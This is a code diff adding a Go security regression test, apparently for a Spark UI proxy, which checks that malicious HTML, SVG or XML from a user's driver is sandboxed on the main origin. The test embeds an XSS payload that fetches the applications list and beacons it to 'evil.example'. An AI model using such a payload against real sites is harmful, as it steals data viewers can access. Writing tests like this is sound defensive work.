@@ -5,7 +5,9 @@ import (
 	"html"
 	"io"
 	"net/http"
+	"net/http/httptest"
 	"net/url"
+	"path"
 	"strings"
 	"sync"
 	"testing"
@@ -497,3 +499,53 @@ func TestAppHostIDsInLowerCaseOnly(t *testing.T) {
 	}
 }
 
+// TestDriverRESTRunsNoScript: with per-app origins, a driver's pages run
+// on its own host, but the REST API stays on the main origin. A driver
+// (any user can start one) that answers its REST paths with HTML, SVG or
+// XML must not run a script there, where it could read the index and
+// every app the viewer may see: the answer comes in a sandbox, unsniffed.
+// JSON passes as it came.
+func TestDriverRESTRunsNoScript(t *testing.T) {
+	t.Parallel()
+	h := appHostHarness(t)
+	const script = `<script>fetch("/api/v1/applications").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example/",t))</script>`
+	drv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch path.Base(r.URL.Path) {
+		case "svg":
+			w.Header().Set("Content-Type", "image/svg+xml")
+			_, _ = io.WriteString(w, `<svg xmlns="http://www.w3.org/2000/svg">`+script+`</svg>`)
+		case "xml":
+			w.Header().Set("Content-Type", "text/xml")
+			_, _ = io.WriteString(w, `<html xmlns="http://www.w3.org/1999/xhtml">`+script+`</html>`)
+		case "jobs":
+			w.Header().Set("Content-Type", "application/json")
+			_, _ = io.WriteString(w, `[{"jobId":1}]`)
+		default:
+			w.Header().Set("Content-Type", "text/html")
+			w.Header().Set("Content-Security-Policy", "script-src *")
+			_, _ = io.WriteString(w, `<html><body>`+script+`</body></html>`)
+		}
+	}))
+	t.Cleanup(drv.Close)
+	u, _ := url.Parse(drv.URL)
+	const bait = "app-20240101000000-0777"
+	apps := append([]*discovery.App(nil), h.reg.Load().Apps()...)
+	apps = append(apps, &discovery.App{ID: bait, Name: "bait", User: "mallory", StartTime: time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC),
+		State: discovery.Running, UIURL: u, Source: "probe:127.0.0.1:4050",
+		ACLProps: map[string]string{"spark.ui.view.acls": "bob"}})
+	h.reg.Store(discovery.NewSnapshot(apps))
+
+	for _, rest := range []string{"/page", "/svg", "/xml", "/jobs"} {
+		p := "/api/v1/applications/" + bait + rest
+		// bob follows mallory's link in his browser, on the main origin.
+		resp, body := h.do(t, http.MethodGet, p, "bob", http.Header{"Accept": {"text/html,application/xhtml+xml,*/*;q=0.8"}})
+		csp := resp.Header.Values("Content-Security-Policy")
+		if resp.StatusCode != http.StatusOK || len(csp) != 1 || csp[0] != restCSP || resp.Header.Get("X-Content-Type-Options") != "nosniff" {
+			t.Errorf("main origin GET %s = %d, Content-Type %q, CSP %q, X-Content-Type-Options %q; want 200 in the sandbox %q, nosniff",
+				p, resp.StatusCode, resp.Header.Get("Content-Type"), csp, resp.Header.Get("X-Content-Type-Options"), restCSP)
+		}
+		if rest == "/jobs" && (resp.Header.Get("Content-Type") != "application/json" || body != `[{"jobId":1}]`) {
+			t.Errorf("GET %s = %q, %q; want the driver's JSON as it came", p, resp.Header.Get("Content-Type"), body)
+		}
+	}
+}
